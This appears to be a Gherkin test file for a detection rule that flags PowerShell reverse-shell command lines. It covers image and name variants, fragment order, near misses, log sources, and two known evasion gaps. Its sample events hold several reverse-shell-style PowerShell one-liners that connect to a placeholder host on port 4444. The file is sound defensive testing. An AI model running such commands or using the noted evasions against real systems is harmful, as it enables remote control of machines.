@attack.t1059.001
Feature: Potential Powershell ReverseShell Connection

  A reverse shell on one line: make a TCP client, take its stream, write to it.

  Background:
    Given the rule "Potential Powershell ReverseShell Connection"
    And a matching event
    And its Image is "C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    And its OriginalFileName is "PowerShell.EXE"
    And its CommandLine is:
      """
      powershell -nop -c "$c = New-Object Net.Sockets.TCPClient('192.0.2.10', 4444); $s = $c.GetStream(); $s.Write($b, 0, 9)"
      """

  Rule: PowerShell is known by its file name or by its version resource

    Scenario: PowerShell under its own name
      Then the rule fires

    Scenario: The folder it lies in does not matter
      When its OriginalFileName is "-"
      And its Image is each of:
        | C:\Users\Public\pwsh.exe | D:\Lab\Bin\powershell.exe |
      Then the rule fires via Image

    @non-obvious
    Scenario Outline: <program>
      As a rule both branches match and neither decides: one is put to the proof only where the other fails.

      When its OriginalFileName is "<resource>"
      And its Image is "C:\Tools\<file>"
      Then the rule fires via <branch>

      Examples:
        | program                                 | resource       | file           | branch           |
        | Windows PowerShell under another name   | PowerShell.EXE | update.exe     | OriginalFileName |
        | PowerShell 7 under another name         | pwsh.dll       | update.exe     | OriginalFileName |
        | Windows PowerShell without its resource | -              | powershell.exe | Image            |
        | PowerShell 7 without its resource       | -              | pwsh.exe       | Image            |

    Scenario Outline: <program>, its name in <letters>
      When its OriginalFileName is "<resource>"
      And its Image is "C:\Tools\<file>"
      And its <branch> is in <letters>
      Then the rule fires via <branch>

      Examples:
        | program                                 | resource       | file           | branch           | letters    |
        | Windows PowerShell under another name   | PowerShell.EXE | update.exe     | OriginalFileName | lower case |
        | PowerShell 7 under another name         | pwsh.dll       | update.exe     | OriginalFileName | upper case |
        | Windows PowerShell without its resource | -              | powershell.exe | Image            | upper case |
        | PowerShell 7 without its resource       | -              | pwsh.exe       | Image            | upper case |

    @non-obvious
    Scenario: PowerShell whose event has no OriginalFileName at all
      Sysmon added the field in version 10. By today's schema an event without it is listed as unrealistic.

      When its OriginalFileName is absent
      Then the rule fires via Image

    Scenario Outline: <program> with the same command line
      When its OriginalFileName is "<resource>"
      And its Image is "C:\Tools\<file>"
      Then the rule is silent because selection_img does not match

      Examples:
        | program                                | resource           | file               |
        | The command prompt                     | Cmd.Exe            | cmd.exe            |
        | The script editor                      | powershell_ise.EXE | powershell_ise.exe |
        | A name that ends like PowerShell's     | MyPowerShell.EXE   | mypowershell.exe   |
        | A name that ends like PowerShell 7's   | mypwsh.dll         | mypwsh.exe         |
        | A name that starts like PowerShell's   | PowerShell.EXE.MUI | powershell.exe.old |
        | A name that starts like PowerShell 7's | pwsh.dll.old       | pwsh.exe.old       |
        | PowerShell's name without its P        | owerShell.EXE      | owershell.exe      |
        | PowerShell 7's name without its p      | wsh.dll            | wsh.exe            |
        | PowerShell's name with another P       | TowerShell.EXE     | towershell.exe     |
        | PowerShell 7's name with another p     | swsh.dll           | swsh.exe           |
        | PowerShell's name with another h       | PowersMell.EXE     | powersmell.exe     |
        | PowerShell's name with a dash          | PowerS-hell.EXE    | powers-hell.exe    |
        | PowerShell's name without its dot      | PowerShell_EXE     | powershell_exe     |
        | PowerShell 7's name without its dot    | pwsh_dll           | pwsh_exe           |
        | PowerShell 7's name with a suffix      | pwsh-preview.dll   | pwsh-preview.exe   |
        | PowerShell 7's name with a dash        | pw-sh.dll          | pw-sh.exe          |

  Rule: The command line needs all three fragments

    Scenario Outline: Letter case does not matter: <letters>
      When its CommandLine is in <letters>
      Then the rule fires

      Examples:
        | letters    |
        | upper case |
        | lower case |

    @non-obvious
    Scenario: The same shell, written in another order
      The fragments may follow each other in any order, and nothing is asked of what stands around them.

      When its CommandLine is:
        """
        powershell "$w = { $o.Write(0xA) }; $o = (New-Object -TypeName Net.Sockets.TCPClient 192.0.2.10, 4444).GetStream( ); & $w"
        """
      Then the rule fires

    Scenario Outline: Without <fragment>
      When its CommandLine has "<instead>" instead of "<fragment>"
      Then the rule is silent because CommandLine does not match

      Examples:
        | fragment              | instead            |
        | Net.Sockets.TCPClient | Net.Sockets.Socket |
        | .GetStream(           | .Client.Send(      |
        | .Write(               | .Read(             |

    Scenario Outline: Almost <fragment>: <instead>
      When its CommandLine has "<instead>" instead of "<fragment>"
      Then the rule is silent because CommandLine does not match

      Examples:
        | fragment              | instead                  |
        | Net.Sockets.TCPClient | Net.Sockets-TCPClient    |
        | Net.Sockets.TCPClient | Net.SocketsLab.TCPClient |
        | .GetStream(           | .GetScream(              |
        | .GetStream(           | .GetSubstream(           |
        | .Write(               | .Wrote(                  |
        | .Write(               | .WrapSite(               |

    Scenario Outline: A letter short of <fragment>
      When its CommandLine falls just short of <fragment>
      Then the rule is silent because CommandLine does not match

      Examples:
        | fragment                 |
        | " Net.Sockets.TCPClient" |
        | ".GetStream("            |
        | ".Write("                |

    Scenario: An ordinary PowerShell command
      When its CommandLine is "powershell -nop -c Get-Process"
      Then the rule is silent because CommandLine does not match

    @known-gap @non-obvious
    Scenario: The full name of the class slips through
      The first fragment begins with a blank, so the same class goes unseen when its namespace is written in full.

      When its CommandLine has " System.Net.Sockets.TCPClient" instead of " Net.Sockets.TCPClient"
      Then the rule fires

    @known-gap
    Scenario: An alias of New-Object that needs no blank slips through
      When its CommandLine has "[Net.Sockets.TCPClient]::new" instead of "New-Object Net.Sockets.TCPClient"
      Then the rule fires

  Rule: Only the start of a process is judged

    Scenario: The start of a process, made without a look at the rule
      Given a process creation event with:
        | Image            | C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe |
        | OriginalFileName | PowerShell.EXE                                                 |
      And its CommandLine is:
        """
        powershell "$c = New-Object Net.Sockets.TCPClient('192.0.2.10', 4444); $s = $c.GetStream(); $s.Write($b, 0, 9)"
        """
      Then the rule fires

    Scenario: The same start, as Windows' own audit tells it
      Given the event:
        """json
        {
          "Channel": "Security",
          "EventID": 4688,
          "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          "CommandLine": "powershell $c = New-Object Net.Sockets.TCPClient('192.0.2.10', 4444); $s = $c.GetStream(); $s.Write($b, 0, 9)"
        }
        """
      Then the rule fires

    Scenario: The same start on Linux
      Given the event:
        """json
        {
          "Channel": "Linux-Sysmon/Operational",
          "EventID": 1,
          "Image": "/opt/microsoft/powershell/7/pwsh",
          "OriginalFileName": "pwsh.dll",
          "CommandLine": "pwsh -c $c = New-Object Net.Sockets.TCPClient('192.0.2.10', 4444); $s = $c.GetStream(); $s.Write($b, 0, 9)"
        }
        """
      Then the rule is silent because of its log source

    Scenario: The connection itself is for other rules
      Given a benign network connection event
      When its Image is "C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
      Then the rule is silent because of its log source
